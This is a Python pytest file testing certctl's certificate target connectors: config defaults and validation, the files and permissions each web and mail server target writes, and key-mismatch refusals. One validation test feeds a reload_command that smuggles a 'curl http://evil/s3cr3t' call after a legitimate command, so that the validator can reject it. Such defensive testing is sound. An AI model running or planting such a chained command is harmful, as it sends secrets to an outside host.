"""Target connectors: config validation with defaults (what the server stores and the agent runs), the files
each target writes (through the real deploy engine, on temporary directories), and the registry."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml
from cryptography import x509
from cryptography.hazmat.primitives import serialization

from certctl.agent.deploy import DeployEngine
from certctl.connectors.targets.base import DeployRequest, FileTarget
from certctl.connectors.targets.envoy import SECRET_TYPE
from certctl.connectors.targets.registry import (
    TARGET_CONNECTORS,
    connector_class,
    create_connector,
    find_connector,
)
from certctl.domain.enums import TargetType
from certctl.domain.errors import NotSupportedError, ValidationError
from certctl.pki.bundle import deploy_bundle
from tests.servers import IssuedCert, ThrowawayCA, free_port

COMMON_DEFAULTS = {
    "command_timeout_seconds": 60, "backup_retention": 3, "verify_attempts": 5, "verify_backoff_seconds": 1,
    "verify_max_backoff_seconds": 16, "verify_timeout_seconds": 5,
}


@pytest.fixture(scope="module")
def ca() -> ThrowawayCA:
    return ThrowawayCA()


@pytest.fixture(scope="module")
def cert(ca: ThrowawayCA) -> IssuedCert:
    return ca.issue("www.example")


def _engine(tmp_path: Path) -> DeployEngine:
    return DeployEngine(tmp_path / "agent-state")


def _pems(data: bytes) -> list[x509.Certificate]:
    return x509.load_pem_x509_certificates(data)


def _read(path: str | Path) -> bytes:
    return Path(path).read_bytes()


def _mode(path: str | Path) -> int:
    return os.stat(path).st_mode & 0o7777


# ---- config validation and defaults ---------------------------------------------------------------
@pytest.mark.parametrize(("type_name", "given", "expected"), [
    ("NGINX", {"cert_path": "/etc/nginx/tls/c.pem", "key_path": "/etc/nginx/tls/k.pem"},
     {"validate_command": "nginx -t", "reload_command": "nginx -s reload"}),
    ("Apache", {"cert_path": "/c.pem", "key_path": "/k.pem"},
     {"validate_command": "apachectl configtest", "reload_command": "apachectl graceful"}),
    ("HAProxy", {"pem_path": "/etc/haproxy/site.pem", "reload_command": "systemctl reload haproxy"},
     {"validate_command": "haproxy -c -f /etc/haproxy/haproxy.cfg"}),
    ("Traefik", {"cert_dir": "/etc/traefik/certs"},
     {"cert_file": "cert.pem", "key_file": "key.pem", "dynamic_config_file": "", "reload_command": "",
      "validate_command": ""}),
    ("Caddy", {"cert_dir": "/etc/caddy/certs"},
     {"mode": "file", "cert_file": "cert.pem", "key_file": "key.pem", "admin_api": "http://localhost:2019",
      "api_object_id": "certctl", "api_timeout_seconds": 10, "fallback_to_files": False,
      "validate_command": "caddy validate --config /etc/caddy/Caddyfile",
      "reload_command": "caddy reload --config /etc/caddy/Caddyfile --force"}),
    ("Envoy", {"cert_dir": "/etc/envoy/certs"},
     {"cert_filename": "cert.pem", "key_filename": "key.pem", "chain_filename": "", "sds_config": False,
      "sds_filename": "sds.json", "sds_secret_name": "server_cert", "validate_command": "",
      "reload_command": ""}),
    ("Postfix", {}, {"cert_path": "/etc/postfix/certs/cert.pem", "key_path": "/etc/postfix/certs/key.pem",
                     "validate_command": "postfix check", "reload_command": "postfix reload"}),
    ("Dovecot", {}, {"cert_path": "/etc/dovecot/certs/cert.pem", "key_path": "/etc/dovecot/certs/key.pem",
                     "validate_command": "doveconf -n", "reload_command": "doveadm reload"}),
    ("Files", {"cert_path": "/srv/app/tls.crt"},
     {"format": "PEM", "validate_command": "", "post_deploy_command": ""}),
])
def test_validate_config_applies_defaults(type_name: str, given: dict[str, Any], expected: dict[str, Any]) -> None:
    config = connector_class(type_name).validate_config(given)
    assert config == {**given, **expected, **COMMON_DEFAULTS}
    assert connector_class(type_name).validate_config(config) == config  # stable: storing it changes nothing


def test_the_agent_applies_defaults_too_whatever_was_stored(tmp_path: Path) -> None:
    """The reference's agents built connectors without ValidateConfig, so Postfix/Dovecot defaults never
    applied there. Here the constructor validates: a config stored before defaults existed still works."""
    target = create_connector("postfix", {}, runner=_engine(tmp_path))
    assert target.config["cert_path"] == "/etc/postfix/certs/cert.pem"
    assert target.config["reload_command"] == "postfix reload"
    with pytest.raises(ValidationError, match="cert_path is required"):
        create_connector("NGINX", {"key_path": "/k"}, runner=_engine(tmp_path))


def test_every_bad_key_is_named_and_no_value_is_echoed() -> None:
    with pytest.raises(ValidationError) as caught:
        connector_class("NGINX").validate_config({
            "cert_path": "relative/cert.pem", "reload_command": "nginx -s reload && curl http://evil/s3cr3t",
            "cert_file_mode": "999", "key_file_owner": "bad owner!", "verify_endpoint": "no-port",
            "verify_attempts": 0, "backup_retention": "3", "colour": "red", "password_of_doom": "hunter2",
        })
    message = caught.value.message
    assert message.startswith("invalid NGINX target config: ")
    for expected in ("cert_path must be an absolute path", "key_path is required",
                     "reload_command must be at most 1024 characters without shell metacharacters",
                     "cert_file_mode must be an octal string", "key_file_owner must be a user or group name",
                     "verify_endpoint must be host:port", "verify_attempts must be between 1 and 30",
                     "backup_retention must be a whole number", "unknown keys 'colour', 'password_of_doom'"):
        assert expected in message, message
    assert "s3cr3t" not in message and "hunter2" not in message and "evil" not in message


@pytest.mark.parametrize(("type_name", "config", "expected"), [
    ("HAProxy", {"pem_path": "/p.pem"}, "reload_command is required"),
    ("HAProxy", {"pem_path": "/p.pem", "reload_command": ""}, "reload_command is required"),
    ("Traefik", {"cert_dir": "/d", "cert_file": "../x.pem"}, "cert_file must be a file name"),
    ("Traefik", {"cert_dir": "/d", "cert_file": "same.pem", "key_file": "same.pem"}, "must differ"),
    ("Envoy", {}, "cert_dir is required"),
    ("Envoy", {"cert_dir": "/d", "sds_config": "yes"}, "sds_config must be true or false"),
    ("Envoy", {"cert_dir": "/d", "chain_filename": "cert.pem"}, "must differ"),
    ("Caddy", {"cert_dir": "/d", "mode": "ftp"}, "mode must be one of: file, api"),
    ("Caddy", {}, "cert_dir is required when mode is 'file'"),
    ("Caddy", {"mode": "api", "fallback_to_files": True}, "cert_dir is required when fallback_to_files is true"),
    ("Caddy", {"mode": "api", "api_object_id": "a/b"}, "api_object_id must be"),
    ("Caddy", {"mode": "api", "admin_api": "unix:/run/caddy.sock"}, "admin_api must be an http"),
    ("Files", {"key_path": "/k"}, "cert_path, fullchain_path or combined_path is required"),
    ("Files", {"cert_path": "/c", "chain_path": "/ch", "format": "DER"}, "chain_path needs format PEM"),
    ("Files", {"cert_path": "/c", "format": "PKCS12"}, "format must be one of: PEM, DER"),
    ("Files", {"cert_path": "/c", "post_deploy_command": ["ok", ""]}, "post_deploy_command as a list"),
    ("NGINX", "not an object", "must be a JSON object"),
    ("NGINX", {"cert_path": "/c", "key_path": "/k", "verify_endpoint": "host:70000"}, "verify_endpoint"),
])
def test_config_rules(type_name: str, config: Any, expected: str) -> None:
    with pytest.raises(ValidationError, match=expected):
        connector_class(type_name).validate_config(config)


def test_modes_owners_endpoints_and_command_lists_are_normalised() -> None:
    config = connector_class("NGINX").validate_config({
        "cert_path": "/c", "key_path": "/k", "cert_file_mode": 416, "key_file_mode": "600",
        "chain_file_mode": "0644", "key_file_owner": "www-data", "key_file_group": 33,
        "verify_endpoint": "[::1]:8443", "reload_command": ["/usr/sbin/nginx", "-s", "reload"],
        "validate_command": "",
    })
    # The reference's JSON carried modes as decimal ints (0640 as 416); stored as octal strings here.
    assert (config["cert_file_mode"], config["key_file_mode"], config["chain_file_mode"]) == ("0640", "0600", "0644")
    assert config["reload_command"] == ["/usr/sbin/nginx", "-s", "reload"] and config["validate_command"] == ""


def test_registry_maps_the_api_type_strings(tmp_path: Path) -> None:
    assert set(TARGET_CONNECTORS) == {"NGINX", "Apache", "HAProxy", "Traefik", "Caddy", "Envoy", "Postfix",
                                      "Dovecot", "Files", "JavaKeystore", "SSH"}
    api_types = {t.value for t in TargetType}
    assert set(TARGET_CONNECTORS) - {"Files"} <= api_types  # Files is agent-side only for now
    assert find_connector("haproxy") is find_connector("HAProxy") is TARGET_CONNECTORS["HAProxy"]
    assert find_connector("F5") is None
    with pytest.raises(NotSupportedError, match="target type 'WinCertStore' has no agent connector"):
        create_connector("WinCertStore", {}, runner=_engine(tmp_path))


# ---- what each target writes ------------------------------------------------------------------------
async def _deploy(tmp_path: Path, type_name: str, config: dict[str, Any], cert: IssuedCert) -> FileTarget:
    target = create_connector(type_name, config, runner=_engine(tmp_path))
    assert isinstance(target, FileTarget)
    result = await target.deploy(cert.request())
    assert result.success and result.status == "deployed", result.message
    assert result.verification.status == "skipped"  # no verify_endpoint: never a false failure
    assert cert.key_pem.splitlines()[1] not in json.dumps(result.to_dict())
    return target


def _site(tmp_path: Path) -> Path:
    site = tmp_path / "site"
    site.mkdir(exist_ok=True)
    return site


async def test_nginx_writes_the_full_chain_the_key_and_an_optional_chain(tmp_path: Path, cert: IssuedCert) -> None:
    site = _site(tmp_path)
    await _deploy(tmp_path, "NGINX", {
        "cert_path": f"{site}/cert.pem", "key_path": f"{site}/key.pem", "chain_path": f"{site}/chain.pem",
        "validate_command": "", "reload_command": "true",
    }, cert)
    assert _read(site / "cert.pem").decode() == cert.fullchain_pem  # leaf first, then the issuing CA
    assert [c.subject for c in _pems(_read(site / "chain.pem"))] == [c.subject for c in _pems(
        cert.chain_pem.encode())]
    assert _read(site / "key.pem").decode() == cert.key_pem and _mode(site / "key.pem") == 0o600
    assert _mode(site / "cert.pem") == 0o644


async def test_apache_with_and_without_a_chain_file(tmp_path: Path, cert: IssuedCert) -> None:
    site = _site(tmp_path)
    base = {"key_path": f"{site}/key.pem", "validate_command": "", "reload_command": "true"}
    await _deploy(tmp_path, "Apache", {**base, "cert_path": f"{site}/full.pem"}, cert)
    assert _read(site / "full.pem").decode() == cert.fullchain_pem
    await _deploy(tmp_path, "Apache", {**base, "cert_path": f"{site}/leaf.pem", "chain_path": f"{site}/chain.pem"},
                  cert)
    assert _read(site / "leaf.pem").decode() == cert.cert_pem
    assert _read(site / "chain.pem").decode() == cert.chain_pem


async def test_haproxy_writes_one_combined_pem(tmp_path: Path, cert: IssuedCert) -> None:
    site = _site(tmp_path)
    await _deploy(tmp_path, "HAProxy", {"pem_path": f"{site}/site.pem", "validate_command": "",
                                        "reload_command": "true"}, cert)
    data = _read(site / "site.pem")
    assert data.decode() == cert.fullchain_pem + cert.key_pem and _mode(site / "site.pem") == 0o600
    assert len(_pems(data)) == 2 and serialization.load_pem_private_key(data, None) is not None


async def test_traefik_writes_the_pair_and_an_optional_dynamic_config(tmp_path: Path, cert: IssuedCert) -> None:
    site = _site(tmp_path)
    await _deploy(tmp_path, "Traefik", {"cert_dir": str(site), "dynamic_config_file": "certctl.yml"}, cert)
    dynamic = yaml.safe_load(_read(site / "certctl.yml"))
    assert dynamic == {"tls": {"certificates": [{"certFile": f"{site}/cert.pem", "keyFile": f"{site}/key.pem"}]}}
    assert _read(site / "cert.pem").decode() == cert.fullchain_pem and _mode(site / "key.pem") == 0o600


async def test_envoy_writes_files_and_an_sds_resource(tmp_path: Path, cert: IssuedCert) -> None:
    site = _site(tmp_path)
    await _deploy(tmp_path, "Envoy", {"cert_dir": str(site), "cert_filename": "tls.crt", "key_filename": "tls.key",
                                      "chain_filename": "ca.crt", "sds_config": True}, cert)
    sds = json.loads(_read(site / "sds.json"))
    assert sds == {"resources": [{
        "@type": SECRET_TYPE, "name": "server_cert",
        "tls_certificate": {"certificate_chain": {"filename": f"{site}/tls.crt"},
                            "private_key": {"filename": f"{site}/tls.key"},
                            "watched_directory": {"path": str(site)}},
    }]}
    assert _read(site / "tls.crt").decode() == cert.fullchain_pem
    assert _read(site / "ca.crt").decode() == cert.chain_pem


async def test_caddy_file_mode(tmp_path: Path, cert: IssuedCert) -> None:
    site = _site(tmp_path)
    await _deploy(tmp_path, "Caddy", {"cert_dir": str(site), "validate_command": "", "reload_command": "true"},
                  cert)
    assert _read(site / "cert.pem").decode() == cert.fullchain_pem
    assert _read(site / "key.pem").decode() == cert.key_pem


@pytest.mark.parametrize("type_name", ["Postfix", "Dovecot"])
async def test_mail_targets(tmp_path: Path, cert: IssuedCert, type_name: str) -> None:
    site = _site(tmp_path)
    await _deploy(tmp_path, type_name, {
        "cert_path": f"{site}/mail.crt", "key_path": f"{site}/mail.key", "chain_path": f"{site}/chain.crt",
        "validate_command": "true", "reload_command": "true",
    }, cert)
    assert _read(site / "mail.crt").decode() == cert.cert_pem
    assert _read(site / "chain.crt").decode() == cert.chain_pem


async def test_generic_files_in_pem(tmp_path: Path, cert: IssuedCert) -> None:
    site = _site(tmp_path)
    marker = tmp_path / "ran"
    await _deploy(tmp_path, "Files", {
        "cert_path": f"{site}/leaf.pem", "key_path": f"{site}/key.pem", "chain_path": f"{site}/chain.pem",
        "fullchain_path": f"{site}/full.pem", "combined_path": f"{site}/combined.pem",
        "post_deploy_command": ["touch", str(marker)], "combined_file_mode": "0640",
    }, cert)
    assert _read(site / "leaf.pem").decode() == cert.cert_pem
    assert _read(site / "chain.pem").decode() == cert.chain_pem
    assert _read(site / "full.pem").decode() == cert.fullchain_pem
    assert _read(site / "combined.pem").decode() == cert.fullchain_pem + cert.key_pem
    assert _mode(site / "combined.pem") == 0o640 and _mode(site / "key.pem") == 0o600
    assert marker.exists()  # the post-deploy command ran (without a shell)


async def test_generic_files_in_der_are_read_by_openssl(tmp_path: Path, cert: IssuedCert) -> None:
    site = _site(tmp_path)
    await _deploy(tmp_path, "Files", {"cert_path": f"{site}/leaf.der", "key_path": f"{site}/key.der",
                                      "format": "DER"}, cert)
    leaf = _openssl("x509", "-inform", "DER", "-in", f"{site}/leaf.der", "-noout", "-fingerprint", "-sha256")
    assert leaf.split("=", 1)[1].replace(":", "").strip().lower() == cert.fingerprint
    key_pub = _openssl("pkey", "-inform", "DER", "-in", f"{site}/key.der", "-pubout")
    cert_pub = x509.load_pem_x509_certificate(cert.cert_pem.encode()).public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo).decode()
    assert key_pub == cert_pub


def _openssl(*args: str) -> str:
    done = subprocess.run(["openssl", *args], capture_output=True, text=True, timeout=30)
    assert done.returncode == 0, done.stderr
    return done.stdout


async def test_explicit_modes_from_the_config_win(tmp_path: Path, cert: IssuedCert) -> None:
    site = _site(tmp_path)
    (site / "cert.pem").write_text("old")
    (site / "cert.pem").chmod(0o600)
    await _deploy(tmp_path, "NGINX", {"cert_path": f"{site}/cert.pem", "key_path": f"{site}/key.pem",
                                      "cert_file_mode": 0o444, "key_file_mode": "0400",
                                      "validate_command": "", "reload_command": "true"}, cert)
    assert (_mode(site / "cert.pem"), _mode(site / "key.pem")) == (0o444, 0o400)


# ---- refusals before anything is written ------------------------------------------------------------
async def test_a_key_that_does_not_match_the_certificate_is_refused(
    tmp_path: Path, ca: ThrowawayCA, cert: IssuedCert
) -> None:
    site = _site(tmp_path)
    other = ca.issue("other.example")
    target = create_connector("NGINX", {"cert_path": f"{site}/c.pem", "key_path": f"{site}/k.pem",
                                        "reload_command": "true"}, runner=_engine(tmp_path))
    mixed = DeployRequest(cert_pem=cert.cert_pem, chain_pem=cert.chain_pem, key_pem=other.key_pem,
                          certificate_id="mc", job_id="j")
    result = await target.deploy(mixed)
    assert result.status == "failed" and "the private key does not match the certificate" in result.message
    assert os.listdir(site) == []
    garbage = await target.deploy(DeployRequest(cert_pem="not pem", chain_pem="", key_pem=cert.key_pem,
                                                certificate_id="mc", job_id="j"))
    assert garbage.status == "failed" and "the certificate is not valid PEM" in garbage.message
    bad_key = await target.deploy(DeployRequest(cert_pem=cert.cert_pem, chain_pem="", key_pem="-----BEGIN x",
                                                certificate_id="mc", job_id="j"))
    assert "not an unencrypted PEM private key" in bad_key.message and "BEGIN" not in bad_key.message
    assert os.listdir(site) == []
    assert cert.key_pem.splitlines()[1] not in repr(mixed)


def test_a_bundle_drops_a_repeated_chain_and_keeps_the_agents_key_bytes(cert: IssuedCert) -> None:
    # The pickup API returns the whole chain as the certificate and the chain again: no duplicates.
    bundle = deploy_bundle(cert.fullchain_pem, cert.chain_pem, cert.key_pem)
    assert bundle.leaf_pem.decode() == cert.cert_pem and bundle.chain_pem.decode() == cert.chain_pem
    assert bundle.key_pem.decode() == cert.key_pem and bundle.fingerprint_sha256 == cert.fingerprint
    assert cert.key_pem.splitlines()[1] not in repr(bundle)


# ---- verification wiring and dry run ----------------------------------------------------------------
def test_verification_uses_the_explicit_endpoint_only(tmp_path: Path, cert: IssuedCert) -> None:
    bundle = deploy_bundle(cert.cert_pem, cert.chain_pem, cert.key_pem)
    base = {"cert_path": "/c.pem", "key_path": "/k.pem"}
    explicit = create_connector("NGINX", {**base, "verify_endpoint": "127.0.0.1:8443",
                                          "verify_server_name": "www.example", "verify_attempts": 3},
                                runner=_engine(tmp_path))
    assert isinstance(explicit, FileTarget)
    spec = explicit.plan(bundle).verify
    assert spec is not None
    assert (spec.host, spec.port, spec.server_name, spec.expected_fingerprint, spec.attempts) == (
        "127.0.0.1", 8443, "www.example", cert.fingerprint, 3)
    implicit = create_connector("NGINX", base, runner=_engine(tmp_path))
    assert isinstance(implicit, FileTarget) and implicit.plan(bundle).verify is None


async def test_dry_run_without_a_certificate_checks_paths_and_commands(tmp_path: Path) -> None:
    site = _site(tmp_path)
    ok = await create_connector("HAProxy", {"pem_path": f"{site}/site.pem", "validate_command": "true",
                                            "reload_command": "true"}, runner=_engine(tmp_path)).dry_run()
    assert ok.success and ok.status == "dry_run" and ok.files == (), ok.message
    missing = await create_connector("Postfix", {}, runner=_engine(tmp_path)).dry_run()
    assert not missing.success
    # This machine has no postfix: the dry run says so instead of failing at the first renewal.
    assert "postfix not found" in missing.message
    assert os.listdir(site) == []


async def test_caddy_api_mode_without_an_admin_api_falls_back_to_files_only_when_asked(
    tmp_path: Path, cert: IssuedCert
) -> None:
    site = _site(tmp_path)
    closed = free_port()
    config = {"mode": "api", "admin_api": f"http://127.0.0.1:{closed}", "cert_dir": str(site),
              "validate_command": "", "reload_command": "true", "api_timeout_seconds": 2}
    strict = await create_connector("Caddy", config, runner=_engine(tmp_path)).deploy(cert.request())
    assert strict.status == "failed" and "the admin API failed: GET /id/certctl: ConnectError" in strict.message
    assert os.listdir(site) == []
    fallback = await create_connector("Caddy", {**config, "fallback_to_files": True},
                                      runner=_engine(tmp_path)).deploy(cert.request())
    assert fallback.status == "deployed" and "fell back to files" in fallback.message, fallback.message
    assert _read(site / "cert.pem").decode() == cert.fullchain_pem
    assert {"mode": "api"}.items() <= connector_class("Caddy").validate_config({"mode": "api"}).items()
